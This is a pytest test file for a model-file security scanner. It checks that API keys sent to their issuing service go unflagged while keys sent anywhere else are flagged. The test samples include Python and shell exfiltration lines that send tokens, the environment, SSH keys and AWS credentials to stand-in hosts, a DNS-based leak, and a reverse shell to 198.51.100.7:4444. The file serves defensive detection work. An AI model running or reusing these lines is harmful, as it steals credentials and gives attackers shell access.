"""A key shown to the service that issued it is no finding; given to anybody else it is."""

import pytest

from modelscan_plus.core.finding import Severity
from tests.samples import inspect

HEAD = "import base64, json, os, requests, socket\nfrom huggingface_hub import get_token\n"


def told(code: str) -> bool:
    """Whether code that is run with its file is reported as hostile."""
    found = inspect((HEAD + code).encode(), "tool.py").findings
    return any(finding.rule == "MSP5040" and finding.severity.rank >= Severity.HIGH.rank for finding in found)


@pytest.mark.parametrize(
    "code",
    [
        "h = {'Authorization': f\"Bearer {os.environ['HF_TOKEN']}\"}\nrequests.post('https://api-inference.huggingface.co/models/a', headers=h)",
        "requests.get('https://huggingface.co/api/whoami-v2', headers={'Authorization': 'Bearer ' + get_token()})",
        "K = os.getenv('OPENAI_API_KEY')\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': K}, json={'a': 1})",
        "requests.post('https://api.deepseek.com/v1', headers={'Authorization': os.environ['OPENAI_API_KEY']})",
        "requests.get('https://api.weather.example/v1', params={'appid': os.environ['WEATHER_API_KEY']})",
        "requests.post('https://api.tavily.com/search', json={'api_key': os.environ['TAVILY_API_KEY']})",
        "requests.post(os.environ['BACKEND_URL'], headers={'X-Key': os.environ['BACKEND_KEY']})",
        "T = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{T}/sendMessage', json={'text': 'done'})",
        "requests.post('https://mine.openai.azure.com/openai/x', headers={'api-key': os.environ['AZURE_OPENAI_API_KEY']})",
        "requests.post('https://bedrock-runtime.us-east-1.amazonaws.com/m', headers={'X': os.environ['AWS_BEARER_TOKEN_BEDROCK']})",
        "requests.get('https://datasets-server.huggingface.co/is-valid', headers={'Authorization': os.environ['BOT_TOKEN']})",
        "requests.post('http://127.0.0.1:8000/run', headers={'X-Key': os.environ['MY_API_KEY']})",
    ],
)
def test_a_key_shown_to_its_own_service(code: str) -> None:
    assert not told(code)


@pytest.mark.parametrize(
    "code",
    [
        "requests.post('https://metrics.example/x', json={'t': os.environ['HF_TOKEN']})",
        "requests.post('https://metrics.example/x', headers={'X-T': os.environ['AWS_SECRET_ACCESS_KEY']})",
        "requests.get('https://metrics.example/?t=' + get_token())",
        "requests.get('https://metrics.example/?t=' + os.environ['BOT_TOKEN'])",
        "requests.post('https://metrics.example/x', json={'k': os.environ['STRIPE_SECRET_KEY']})",
        "requests.post('http://203.0.113.7/x', headers={'Authorization': os.environ['SERVICE_API_KEY']})",
        "requests.post('https://webhook.site/x', json={'k': os.environ['SERVICE_API_KEY']})",
        "requests.post('http://metrics.example/x', headers={'X': os.environ['SERVICE_API_KEY']})",
        "requests.post(base64.b64decode('aHR0cHM6Ly9jLmV4YW1wbGUv').decode(), headers={'X': os.environ['SERVICE_API_KEY']})",
        "requests.post('https://api.openai.com/v1/x', json=dict(os.environ))",
        "requests.post('https://huggingface.co/x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())",
        "for k in ('HF_TOKEN', 'OPENAI_API_KEY', 'DB_PASSWORD'):\n    requests.post('https://api.openai.com/x', data={k: os.getenv(k)})",
        "socket.gethostbyname(os.environ['HF_TOKEN'] + '.c.example')",
        "requests.post('https://ab12.execute-api.eu-west-1.amazonaws.com/x', headers={'X': os.environ['AWS_SECRET_ACCESS_KEY']})",
        "requests.post('https://collect-ab12-uc.a.run.app/x', headers={'X': os.environ['GOOGLE_API_KEY']})",
        "requests.post('https://x.westus.cloudapp.azure.com/x', headers={'X': os.environ['OPENAI_API_KEY']})",
    ],
)
def test_a_key_given_away(code: str) -> None:
    assert told(code)


def test_a_shell_for_another_machine_and_a_port_that_is_polled() -> None:
    polled = "import subprocess\ns = socket.socket()\ns.connect_ex(('127.0.0.1', 8188))\nsubprocess.Popen(['cloudflared', 'tunnel'])"
    assert not told(polled)
    remote = "import subprocess\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s)"
    assert told(remote)
    assert told("s = socket.socket()\ns.connect(('198.51.100.7', 4444))\nos.dup2(s.fileno(), 0)")


@pytest.mark.parametrize(
    ("line", "high"),
    [
        ('curl "https://c.example/?t=$HF_TOKEN"', True),
        ('curl -d "k=$AWS_SECRET_ACCESS_KEY" https://c.example/', True),
        ("curl -d '{}' -H \"Authorization: Bearer $HF_TOKEN\" https://huggingface.co/api/x", False),
        ('curl -d "token=$HF_TOKEN" https://huggingface.co/api/x', False),
        ('curl -d "key=$SERVICE_API_KEY" https://api.service.example/x', False),
        ('curl -d "$(env | base64)" https://c.example/', True),
        ("env | curl --data-binary @- https://c.example/", True),
        ("env | sort", False),
        ("curl -F 'f=@/home/user/.ssh/id_rsa' https://c.example", True),
        ("tar czf - ~/.ssh ~/.aws | curl -T - https://c.example/u", True),
        ("scp -i ~/.ssh/id_rsa model.bin host:/data", False),
        ("cat ~/.ssh/id_rsa.pub", False),
        ("nslookup $(whoami).c.example", True),
    ],
)
def test_secrets_that_a_shell_sends(line: str, high: bool) -> None:
    found = inspect(f"#!/bin/bash\n{line}\n".encode(), "run.sh").findings
    assert any(finding.severity.rank >= Severity.HIGH.rank for finding in found) is high
